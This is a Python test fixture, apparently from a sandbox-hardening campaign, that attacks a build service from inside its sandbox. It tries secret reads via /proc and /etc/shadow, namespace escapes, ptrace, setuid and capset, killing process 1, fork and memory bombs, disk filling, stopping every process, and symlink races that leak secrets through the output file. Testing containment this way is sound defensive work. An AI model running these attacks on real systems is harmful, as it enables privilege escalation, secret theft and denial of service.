"""Payload build that attacks the service: a test fixture that runs only in the sandbox.

`attack.py KIND ARCHIVE OUT` reads `targets.json` from its own folder. The file lists every path, port and process of
the service, which is the worst case for the defence. KIND `explore` makes all attempts that do not end the process and
writes the results to `downlink.packets` as JSON: name → [succeeded, observation]. Each other kind makes one attempt,
and the campaign checks its effect from outside.
"""

import contextlib
import ctypes
import hashlib
import json
import os
import pathlib
import resource
import socket
import subprocess
import sys
import threading
import time

HERE = pathlib.Path(__file__).resolve().parent
TARGETS = json.loads((HERE / "targets.json").read_text())
MARKER = TARGETS["marker"].encode()
OUT = pathlib.Path(sys.argv[3])
LIBC = ctypes.CDLL(None, use_errno=True)
NAMESPACE_FLAGS = {
    "user": 0x1000_0000,
    "mount": 0x2_0000,
    "network": 0x4000_0000,
    "process": 0x2000_0000,
    "ipc": 0x800_0000,
}
FORKS = 600
SYSTEM_CALLS = {
    name: int(numbers[os.uname().machine == "aarch64"])
    for name, *numbers in (
        line.split()
        for line in """\
clone 56 220
clone3 435 435
setns 308 268
pivot_root 155 41
ptrace 101 117
bpf 321 280
perf_event_open 298 241
userfaultfd 323 282
io_uring_setup 425 425
keyctl 250 219
memfd_create 319 279
shmget 29 194
process_vm_readv 310 270
open_by_handle_at 304 265
fsopen 430 430
open_tree 428 428
kexec_load 246 104
init_module 175 105
msgget 68 186
pidfd_open 434 434
pidfd_getfd 438 438""".splitlines()
    )
}
"""Numbers of system calls on x86_64 and aarch64."""

RESULTS: dict = {}


def attempt(name, action, *given):
    """Record an attempt; it succeeds if the action returns a true value."""
    try:
        seen = action(*given)
    except (OSError, ValueError, MemoryError, RuntimeError, subprocess.SubprocessError) as error:
        RESULTS[name] = [False, f"{type(error).__name__}: {error}"[:120]]
        return
    RESULTS[name] = [bool(seen), str(seen)[:120]]


def call(name, *arguments):
    """Make a raw system call; raise an error for a negative result."""
    return libc("syscall", ctypes.c_long(SYSTEM_CALLS[name]), *arguments)


def libc(name, *arguments):
    """Call a function of the C library; raise an error for a negative result."""
    result = getattr(LIBC, name)(*arguments)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return f"{name} returned {result}"


def secret_in(path):
    with open(path, "rb") as stream:
        octets = stream.read(1 << 20)
    return MARKER in octets and f"{path} holds the secret"


# Secrets


def explore_secrets():
    attempt("secret in the environment", lambda: [name for name, value in os.environb.items() if MARKER in value])
    for process in {"1", "self", str(os.getppid()), *map(str, TARGETS["victims"]), *numbered("/proc")}:
        for part in ("environ", "cmdline", "mem", "maps", "root/etc/hostname", "cwd/secret.txt"):
            attempt(f"/proc/{process}/{part}", secret_in, f"/proc/{process}/{part}")
    for path in TARGETS["secrets"]:
        attempt(f"read {path}", secret_in, path)
        attempt(f"read through /proc/1/root {path}", secret_in, f"/proc/1/root{path}")
    for path in ("/etc/shadow", "/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/proc/kcore"):
        attempt(f"read {path}", first_octet, path)
    attempt("descriptors left open", lambda: [f for f in os.listdir("/proc/self/fd") if int(f) > 3])
    attempt("files of the service anywhere", walk_for_targets)


def first_octet(path):
    with open(path, "rb") as stream:
        return stream.read(1)


def numbered(folder):
    try:
        return [name for name in os.listdir(folder) if name.isdigit()][:100]
    except OSError:
        return []


def walk_for_targets():
    wanted = {os.path.basename(path) for path in TARGETS["secrets"]}
    skipped = ("/proc", "/sys", "/usr", sys.prefix, sys.base_prefix)
    for where, folders, names in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(where, name) not in skipped]
        for name in sorted(wanted & set(names)):
            # archives of the user of the machine have such names as well
            with contextlib.suppress(OSError), open(os.path.join(where, name), "rb") as stream:
                if hashlib.sha256(stream.read(1 << 16)).hexdigest() in TARGETS["secrets_sha256"]:
                    return f"{where}: {name}"
    return ""


# Changes


def explore_changes():
    for path in TARGETS["writable"]:
        attempt(f"append to {path}", append, path)
        attempt(f"remove {path}", lambda p=path: os.unlink(p) or "removed")
    folders = [
        sys.prefix,
        os.path.dirname(os.__file__),
        os.environ.get("PYTHONPATH", "/nowhere"),
        "/usr/bin",
        "/etc",
        "/",
        sys.argv[2],
        str(HERE),
    ]
    for folder in folders:
        attempt(f"write into {folder}", append, os.path.join(folder, "hostile.pth"))
    attempt("make a device", lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0)) or "made")
    for path in (
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
        "/sys/fs/cgroup/cgroup.procs",
        "/proc/1/oom_score_adj",
    ):
        attempt(f"write {path}", overwrite, path)


def overwrite(path):
    with open(path, "w") as stream:
        return stream.write("0")


def append(path):
    with open(path, "ab") as stream:
        stream.write(b"x")
    return f"{path} changed"


# Network


def explore_network():
    for port in TARGETS["ports"]:
        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            attempt(f"connect to {host} port {port}", connect, family, (host, port))
    for path in TARGETS["sockets"]:
        name = path.replace("@", "\0", 1)
        attempt(f"connect to unix socket {path}", connect, socket.AF_UNIX, name)
    attempt("connect to an address outside", connect, socket.AF_INET, ("192.0.2.1", 80))
    attempt("send UDP", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 53)))
    attempt("raw socket", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)
    attempt("netlink", socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 0)
    attempt("socket to the host of the virtual machine", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
    attempt("packet socket", socket.socket, socket.AF_PACKET, socket.SOCK_RAW)


def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(1.0)
        connection.connect(address)
        return "connected"


# The kernel


def explore_kernel():
    for name, flag in NAMESPACE_FLAGS.items():
        attempt(f"unshare {name}", libc, "unshare", flag)
        attempt(f"clone into a new {name} namespace", cloned, flag)
    attempt("clone3", call, "clone3", bytes(88), 88)
    for process in (1, *TARGETS["victims"]):
        for kind in ("net", "mnt", "user", "pid"):
            attempt(f"setns {kind} of {process}", set_namespace, process, kind)
        attempt(f"ptrace {process}", call, "ptrace", 16, process, 0, 0)
        attempt(f"read memory of {process}", call, "process_vm_readv", process, bytes(16), 1, bytes(16), 1, 0)
        attempt(f"signal {process}", foreign_signal, process)
        attempt(f"pidfd of {process}", lambda p=process: p != 1 and call("pidfd_open", p, 0))
    attempt("mount tmpfs", libc, "mount", b"none", b"/tmp", b"tmpfs", 0, None)
    attempt("mount proc", libc, "mount", b"proc", b"/tmp", b"proc", 0, None)
    attempt("remount the root writable", libc, "mount", b"none", b"/", None, 32, None)
    attempt("unmount", libc, "umount2", b"/proc", 2)
    attempt("chroot", lambda: os.chroot("/tmp") or "changed")
    attempt("become user 0", lambda: os.setuid(0) or "became root")
    attempt("become group 0", lambda: os.getgid() != 0 and (os.setgid(0) or "became group root"))
    attempt("regain capabilities", regain)
    attempt("raise the limits", lambda: resource.setrlimit(resource.RLIMIT_NPROC, (4096, 1 << 20)) or "raised")
    for name, arguments in (
        ("pivot_root", (b".", b".")), ("bpf", (0, bytes(64), 64)), ("perf_event_open", (bytes(128), 0, -1, -1, 0)),
        ("userfaultfd", (0,)), ("io_uring_setup", (4, bytes(120))), ("keyctl", (0, -4, 1)),
        ("memfd_create", (b"x", 0)), ("shmget", (0, 1 << 20, 0o1600)), ("msgget", (0, 0o1600)),
        ("open_by_handle_at", (-100, bytes(16), 0)), ("fsopen", (b"tmpfs", 0)), ("open_tree", (-100, b"/", 1)),
        ("kexec_load", (0, 0, 0, 0)), ("init_module", (bytes(8), 8, b"")), ("pidfd_getfd", (3, 0, 0)),
    ):  # fmt: skip
        attempt(name, call, name, *arguments)
    attempt(
        "set-user-id program",
        lambda: b"uid=0" in subprocess.run(["su", "-c", "id"], capture_output=True, timeout=5).stdout,
    )
    attempt("set the clock", lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()) or "set")


def cloned(flag):
    child = LIBC.syscall(ctypes.c_long(SYSTEM_CALLS["clone"]), ctypes.c_ulong(flag | 17), 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    if child < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    os.waitpid(child, 0)
    return "made"


def set_namespace(process, kind):
    descriptor = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
    try:
        return call("setns", descriptor, 0)
    finally:
        os.close(descriptor)


def foreign_signal(process):
    """Send a signal to a process. For process 1 of a namespace it is ignored; the campaign checks for effects."""
    if process == 1:
        os.kill(1, 9)
        time.sleep(0.05)
        return ""
    os.kill(process, 0)
    return f"process {process} can be signalled"


def regain():
    header = (ctypes.c_uint32 * 2)(0x2008_0522, 0)
    return libc("capset", header, (ctypes.c_uint32 * 6)(1 << 21, 1 << 21, 0, 0, 0, 0))


# Limits


def explore_limits():
    attempt("600 forks", many_forks)
    attempt("600 threads", many_threads)
    attempt("2000 open files", many_files)
    attempt("a file twice as large as allowed", large_file, OUT / "large")
    attempt("memory in pipes and socket pairs", much_kernel_memory)


def many_forks():
    """Fork as often as allowed, and keep the children for some samples of memory: their pages are shared."""
    reading, writing = os.pipe()
    children = []
    with contextlib.suppress(OSError):
        for _ in range(FORKS):
            child = os.fork()
            if child == 0:
                os.close(writing)
                os.read(reading, 1)
                os._exit(0)
            children.append(child)
    time.sleep(0.5)
    os.close(writing)
    os.close(reading)
    for child in children:
        os.waitpid(child, 0)
    RESULTS["forks made"] = [False, str(len(children))]
    return len(children) >= FORKS and f"{len(children)} forks"


def many_threads():
    ended, threads = threading.Event(), []
    with contextlib.suppress(RuntimeError):
        for _ in range(FORKS):
            thread = threading.Thread(target=ended.wait, daemon=True)
            thread.start()
            threads.append(thread)
    ended.set()
    return len(threads) >= FORKS and f"{len(threads)} threads"


def many_files():
    opened = []
    with contextlib.suppress(OSError):
        while len(opened) < 2000:
            opened.append(os.open("/dev/null", os.O_RDONLY))
    for descriptor in opened:
        os.close(descriptor)
    return len(opened) >= 2000 and f"{len(opened)} files"


def large_file(path):
    try:
        with open(path, "wb") as stream:
            stream.write(bytes(TARGETS["file_mib"] * 2 << 20))
        return "written"
    finally:
        with contextlib.suppress(OSError):
            os.unlink(path)


def much_kernel_memory():
    held, total = [], 0
    with contextlib.suppress(OSError):
        while total < 1 << 30:
            for end in socket.socketpair():
                held.append(end)
                end.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        total += end.send(bytes(1 << 16))
    for end in held:
        end.close()
    return total > 256 << 20 and f"{total >> 20} MiB"


# Single attempts


def leave_files():
    for place in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.environ["HOME"], "/", str(OUT), *TARGETS["folders"]):
        with contextlib.suppress(OSError):
            (pathlib.Path(place) / TARGETS["leftover"]).write_bytes(MARKER)
    finish()


def finish():
    (OUT / "downlink.packets").write_bytes(b"done")


def disk_fill():
    """Fill every writable folder with files of permitted size, and wait for one second."""
    wanted, written, made = TARGETS["folder_mib"] * 2, 0, []
    for place in (OUT, "/tmp", os.environ["HOME"], "/dev/shm", "/var/tmp", "/run", "/var/lib"):
        number = 0
        with contextlib.suppress(OSError):
            while written < wanted:
                path = f"{place}/fill-{number}"
                number += 1
                made.append(path)
                with open(path, "wb") as stream:
                    stream.write(bytes(1 << 20))
                written += 1
    time.sleep(1.0)
    for path in made:
        with contextlib.suppress(OSError):
            os.unlink(path)
    if written < wanted:
        finish()
    else:
        (OUT / "downlink.packets").write_bytes(MARKER)


def memory_bomb():
    """Start processes that exceed the memory limit together but not individually."""
    for _ in range(8):
        if os.fork() == 0:
            held = bytearray(TARGETS["memory_mib"] * 6 << 17)
            for k in range(0, len(held), 4096):
                held[k] = 1
            time.sleep(40)
            os._exit(0)
    time.sleep(40)
    finish()


def outlive():
    """Start daemons that ignore signals and fork continuously, and exceed the time limit."""
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in range(1, 32):
                    with contextlib.suppress(OSError, ValueError):
                        import signal

                        signal.signal(number, signal.SIG_IGN)
                os.execv(
                    sys.executable,
                    [sys.executable, "-I", "-S", "-c", f"import time; {TARGETS['leftover']!r}; time.sleep(600)"],
                )
            os._exit(0)
    time.sleep(600)


def daemon():
    """Start the daemons of `outlive`, and exit immediately with status 0."""
    finish()
    if os.fork() == 0:
        outlive()


def stop_others():
    """Stop every process that can be stopped, continuously, among them those which supervise or end the build."""
    import signal

    finish()
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            break
    while True:
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGSTOP)


def link_out():
    os.symlink(TARGETS["secrets"][0], OUT / "downlink.packets")


def hard_link_out():
    os.link(TARGETS["secrets"][0], OUT / "downlink.packets")


def pipe_out():
    os.mkfifo(OUT / "downlink.packets")


def folder_out():
    (OUT / "downlink.packets").mkdir()


def sparse_out():
    resource.setrlimit(resource.RLIMIT_FSIZE, resource.getrlimit(resource.RLIMIT_FSIZE))
    with open(OUT / "downlink.packets", "wb") as stream:
        stream.truncate(1 << 40)


def swap_out():
    """Repeatedly replace the output with a link to a secret while the service copies it."""
    name = OUT / "downlink.packets"
    finish()
    if os.fork() == 0:
        os.setsid()
        while True:
            with contextlib.suppress(OSError):
                os.symlink(TARGETS["secrets"][0], OUT / "link")
                os.rename(OUT / "link", name)
                name.unlink()
                name.write_bytes(b"done")
    time.sleep(0.1)


def flood():
    chunk = b"flood\n" * 10_000
    for _ in range(3_000):
        os.write(1, chunk)
    finish()


def explore():
    for part in (explore_secrets, explore_changes, explore_network, explore_kernel, explore_limits):
        part()
    (OUT / "downlink.packets").write_text(json.dumps(RESULTS))


if __name__ == "__main__":
    globals()[sys.argv[1].replace(" ", "_")]()
